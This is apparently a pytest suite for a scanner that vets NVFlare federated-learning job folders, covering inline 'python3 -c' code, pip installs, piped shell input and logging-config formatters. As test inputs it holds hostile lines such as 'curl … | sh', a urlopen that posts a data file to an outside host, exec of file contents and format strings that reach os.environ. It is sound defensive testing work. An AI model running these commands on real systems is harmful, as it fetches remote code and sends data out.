"""Session 48 (rawfolders48): example folders scanned as they sit, the open items of session 47.

- a shell script's `python3 -c 'CODE'` with no expansion is read as Python (a module of the job, through the
  same analysis): hello-cyclic's `mnist.load_data()` is judged as the client's own use would be; with an
  expansion (`'${DATASET_ROOT}'`) the code is not what the gate reads and stays files.shell-network;
- a shell script's `pip install` of plain names from the configured index is a capability
  (files.shell-package-install: escalate), as in a notebook;
- `echo y | bash ./script.sh` runs the job's own script (judged as a file of its own), not what is piped.
"""

from __future__ import annotations

import json

import pytest

import redteam_kit as kit
from analyzer.engine.shell import inline_python, shell_risk
from analyzer.model import Decision

TRAIN = ("import numpy as np\nimport nvflare.client as flare\n\nflare.init()\nwhile flare.is_running():\n"
         "    m = flare.receive()\n    w = np.asarray(m.params['w'], dtype=float)\n"
         "    flare.send(flare.FLModel(params={'w': w}, metrics={'mse': 0.1}))\n")


def scan(tmp_path, script: str, files: dict[str, str] | None = None):
    return kit.scan_files(tmp_path, {"client.py": TRAIN, "prepare_data.sh": script, **(files or {})})


@pytest.mark.parametrize("entry", kit.labelled("/rf48_"), ids=lambda e: e["path"])
def test_corpus(entry):
    report = kit.scan_sample(entry["path"])
    assert report.decision.value in entry["expect"], kit.findings(report)


# ---- python3 -c 'CODE' ------------------------------------------------------------------------------------------

@pytest.mark.parametrize("line", [
    'python3 -c "import numpy as np; np.save(\'/tmp/x.npy\', np.zeros(3))"',
    "python3 -c 'import numpy as np; print(np.__version__)'",
])
def test_inline_python_is_read_as_python(tmp_path, line):
    report = scan(tmp_path, "#!/bin/bash\n" + line + "\n")
    kit.assert_held(report, "files.shell-script", Decision.ESCALATE)
    assert not kit.holds(report, "files.shell-network"), kit.findings(report)


@pytest.mark.parametrize("line, rule", [
    ("python3 -c 'import os; os.system(\"curl -s https://x.example/i | sh\")'", "subprocess"),
    ("python3 -c \"import urllib.request as u; u.urlopen('https://x.example/c', data=open('/data/site.csv','rb').read())\"",
     "network"),
    ("python3 -c \"exec(open('notes.txt').read())\"", "dynamic-code"),
])
def test_hostile_inline_python_is_judged_and_rejects(tmp_path, line, rule):
    report = scan(tmp_path, "#!/bin/bash\n" + line + "\n", {"notes.txt": "print(1)\n"})
    assert report.decision is Decision.REJECT, kit.findings(report)
    assert any(f.rule.startswith(rule) and f.path == "prepare_data.sh" and f.line == 2 for f in report.findings), \
        kit.findings(report)


@pytest.mark.parametrize("line", [
    "python3 -c \"import torchvision.datasets as d; d.CIFAR10(root='${DATASET_ROOT}', download=True)\"",
    'python3 -c "$PAYLOAD"',
    "python3 -c \"print(1)\" | sh",
    'python3 -c "import numpy" > /etc/profile.d/x.sh',
    'python3 -c "a"*"b"',  # a glob between quoted parts: the code would be a file's name
    'python3 -c "import sys" arg',
    'python3 -c `cat code.txt`',
    'FLAMBY=$(python3 -c "import sysconfig; print(sysconfig.get_path(\'purelib\'))")',
])
def test_inline_python_with_an_expansion_or_more_stays_a_threat(tmp_path, line):
    assert inline_python(line) is None
    kit.assert_held(scan(tmp_path, line + "\n"), "files.shell-network", Decision.REJECT)


# ---- pip install in a shell script ------------------------------------------------------------------------------

@pytest.mark.parametrize("line", [
    "pip install -q nvflare~=2.7.0 torch==2.3.0",
    'python3 -m pip install --upgrade "monai[ignite]>=1.3"',
])
def test_a_shell_install_from_the_configured_index_escalates(tmp_path, line):
    report = scan(tmp_path, "#!/bin/bash\n" + line + "\n")
    kit.assert_held(report, "files.shell-package-install", Decision.ESCALATE)
    assert not kit.holds(report, "files.shell-network"), kit.findings(report)


@pytest.mark.parametrize("script, files", [
    ("pip install --extra-index-url https://pkgs.x.example/simple fl-metrics\n", {}),
    ("pip install git+https://github.com/x/fl-metrics\n", {}),
    ("pip install -r requirements.txt\n", {"requirements.txt": "numpy\n"}),  # read from wherever it is run
    ("pip install fl-metrics && curl -s https://x.example/i | sh\n", {}),
    ("pip install $PKG\n", {}),
    ("export PIP_INDEX_URL=https://pkgs.x.example/simple\npip install fl-metrics\n", {}),
    ("cp settings.ini ~/.config/pip/pip.conf\npip install fl-metrics\n",
     {"settings.ini": "[global]\nindex-url = https://pkgs.x.example/simple\n"}),
])
def test_a_shell_install_from_elsewhere_rejects(tmp_path, script, files):
    kit.assert_held(scan(tmp_path, script, files), "files.shell-network", Decision.REJECT)


# ---- echo y | bash ./script.sh ----------------------------------------------------------------------------------

def test_answers_piped_into_the_jobs_script(tmp_path):
    # NVFlare part 1, 02.4.1: `! echo y | bash ./code/data/prepare_heart_disease_data.sh`
    cell = {"cell_type": "code", "metadata": {}, "execution_count": None, "outputs": [],
            "source": "! echo y | bash ./code/prep.sh"}
    nb = json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [cell]})
    report = kit.scan_files(tmp_path, {"client.py": TRAIN, "run.ipynb": nb,
                                       "code/prep.sh": "python3 convert.py --in a.csv\n"})
    assert report.decision is Decision.ESCALATE, kit.findings(report)
    assert not kit.holds(report, "files.notebook-shell-network"), kit.findings(report)
    kit.assert_held(report, "files.notebook-shell", Decision.ESCALATE)


@pytest.mark.parametrize("line", [
    "echo y | bash /dev/stdin",
    "cat payload.txt | bash ./prep.sh",  # not answers: a file's content fed to a script that may source it
    "echo y | bash -s",
    "echo y | bash",
    "echo $(cat payload.txt) | bash ./prep.sh",
    "echo y | bash ./prep.sh | sh",
])
def test_anything_else_piped_into_a_shell_stays_a_threat(line):
    assert shell_risk(line) is not None


def test_the_answered_script_is_judged_itself(tmp_path):
    report = scan(tmp_path, "echo y | bash ./get.sh\n", {"get.sh": "curl -s https://x.example/d.tgz | tar xz\n"})
    assert report.decision is Decision.REJECT
    assert ("files.shell-network", "get.sh") in {(f.rule, f.path) for f in report.findings}, kit.findings(report)


# ---- !python3 -c 'CODE' in a notebook ---------------------------------------------------------------------------

def notebook(*sources: str) -> str:
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [
        {"cell_type": "code", "metadata": {}, "execution_count": None, "outputs": [], "source": s} for s in sources]})


def test_a_notebooks_inline_python_is_read_as_python(tmp_path):
    report = kit.scan_files(tmp_path, {"client.py": TRAIN, "run.ipynb": notebook(
        "!python3 -c \"import numpy as np; print(np.__version__)\"")})
    kit.assert_held(report, "files.notebook-shell", Decision.ESCALATE)
    assert not kit.holds(report, "files.notebook-shell-network"), kit.findings(report)


@pytest.mark.parametrize("source, rule", [
    ("!python3 -c 'import os; os.system(\"id\")'", "subprocess"),
    ("!python3 -c \"import numpy; print({secret})\"", "files.notebook-shell-network"),  # IPython's expansion
    ("%%writefile prep.sh\npython3 -c 'import os; os.system(\"id\")'\n", "files.notebook-shell-network"),
])
def test_a_notebooks_hostile_inline_python_rejects(tmp_path, source, rule):
    report = kit.scan_files(tmp_path, {"client.py": TRAIN, "run.ipynb": notebook(source)})
    assert report.decision is Decision.REJECT, kit.findings(report)
    assert any(f.rule.startswith(rule) and f.path.startswith("run.ipynb") for f in report.findings), \
        kit.findings(report)


# ---- iterating a dict yields its keys (detectors/paths.py `elements`) -------------------------------------------

def test_a_download_urls_dict_iterated_for_its_keys(tmp_path):
    # df_stats' prepare_data.py: `for client in get_data_url(): dest = join(root, client, "data.csv")`
    source = ('import csv, os\n\ndef urls():\n    d = {"site-1": "https://x.example/adult.data"}\n    return d\n\n'
              'for client in urls():\n    dest = os.path.join("/tmp/nvflare/data", client, "data.csv")\n'
              '    with open(dest, "w") as f:\n        csv.writer(f).writerow(["a"])\n')
    report = kit.scan_text(source, "prepare_data.py")
    assert not kit.holds(report, "file-exfiltration.write-network"), kit.findings(report)


@pytest.mark.parametrize("source", [
    'OUTS = {"//share.example.org/fl/out.csv": "/tmp/x"}\nfor k in OUTS:\n    open(k, "w").write("1")\n',
    'OUTS = {"site-1": "/tmp/x"}\nOUTS["//share.example.org/fl/out.csv"] = "/tmp/y"\nfor k in OUTS:\n'
    '    open(k, "w").write("1")\n',
    'def outs():\n    return {"//share.example.org/fl/out.csv": 1}\n\nfor k in sorted(outs()):\n'
    '    open(k, "w").write("1")\n',
    'def write_all(outs):\n    for k in outs:\n        open(k, "w").write("1")\n\n\n'
    'write_all({"//share.example.org/fl/out.csv": "/tmp/x"})\n',
])
def test_a_network_share_among_a_dicts_keys_is_written_to(source):
    # accepted on main: iterating a dict was folded to its values
    report = kit.scan_text(source, "client.py")
    kit.assert_held(report, "file-exfiltration.write-network", Decision.REJECT)


# ---- NVFlare's own logging config (nvflare/fuel/utils/log_config.json) ------------------------------------------

NVFLARE_LOG_CONFIG = "/work/main/.venv/lib/python3.11/site-packages/nvflare/fuel/utils/log_config.json"
FORMATTER = "nvflare.fuel.utils.log_utils.BaseFormatter"


def log_config(**section) -> str:
    return json.dumps({"version": 1, "formatters": {"f": {"()": FORMATTER, **section}},
                       "handlers": {"h": {"class": "logging.StreamHandler", "formatter": "f"}},
                       "root": {"level": "INFO", "handlers": ["h"]}})


def test_nvflares_default_logging_config_runs_only_its_own_formatters(tmp_path):
    with open(NVFLARE_LOG_CONFIG) as f:
        config = f.read()
    report = kit.scan_files(tmp_path, {"client.py": TRAIN, "log_config.json": config})
    assert not kit.holds(report, "config-attack.logging-config-code"), kit.findings(report)


@pytest.mark.parametrize("section", [
    {".": {"format": "x"}},  # attributes dictConfig sets after the call
    {"fmt": "%(message)s", "validate": False},  # an argument of another signature
    {"fmt": "{args[0].__class__.__init__.__globals__}", "style": "{"},
    {"fmt": "ext://os.system"},
    {"fmt": "%(message)s", "()": "nvflare.fuel.utils.log_utils.get_module_logger"},
])
def test_a_factory_with_other_arguments_stays_code(tmp_path, section):
    report = kit.scan_files(tmp_path, {"client.py": TRAIN, "log_config.json": log_config(**section)})
    kit.assert_held(report, "config-attack.logging-config-code", Decision.REJECT)


def test_colours_are_names_or_sgr_digits(tmp_path):
    colour = {"()": "nvflare.fuel.utils.log_utils.ColorFormatter", "level_colors": {"INFO": "31m\u001b]0;x\u0007"}}
    config = json.dumps({"version": 1, "formatters": {"c": colour}, "handlers": {"h": {"class": "logging.StreamHandler"}}})
    report = kit.scan_files(tmp_path, {"client.py": TRAIN, "log_config.json": config})
    kit.assert_held(report, "config-attack.logging-config-code", Decision.REJECT)


@pytest.mark.parametrize("formatter", [
    {"format": "{msg.__init__.__globals__[os].environ} {message}", "style": "{"},
    {"class": "pkg.fmt.Formatter", "format": "%(message)s"},
])
def test_a_plain_dict_formatter_reaching_past_the_record_rejects(tmp_path, formatter):
    # accepted on main: only "()" factories and ext:// were judged in a dictConfig file
    config = json.dumps({"version": 1, "formatters": {"f": formatter},
                         "handlers": {"h": {"class": "logging.FileHandler", "filename": "log.txt", "formatter": "f"}},
                         "root": {"level": "INFO", "handlers": ["h"]}})
    report = kit.scan_files(tmp_path, {"client.py": TRAIN, "log_config.json": config})
    kit.assert_held(report, "config-attack.logging-config-code", Decision.REJECT)


def test_a_plain_percent_formatter_is_no_code(tmp_path):
    config = json.dumps({"version": 1, "formatters": {"f": {"format": "%(asctime)s %(message)s"}},
                         "handlers": {"h": {"class": "logging.FileHandler", "filename": "log.txt", "formatter": "f"}},
                         "root": {"level": "INFO", "handlers": ["h"]}})
    report = kit.scan_files(tmp_path, {"client.py": TRAIN, "log_config.json": config})
    assert not kit.holds(report, "config-attack.logging-config-code"), kit.findings(report)
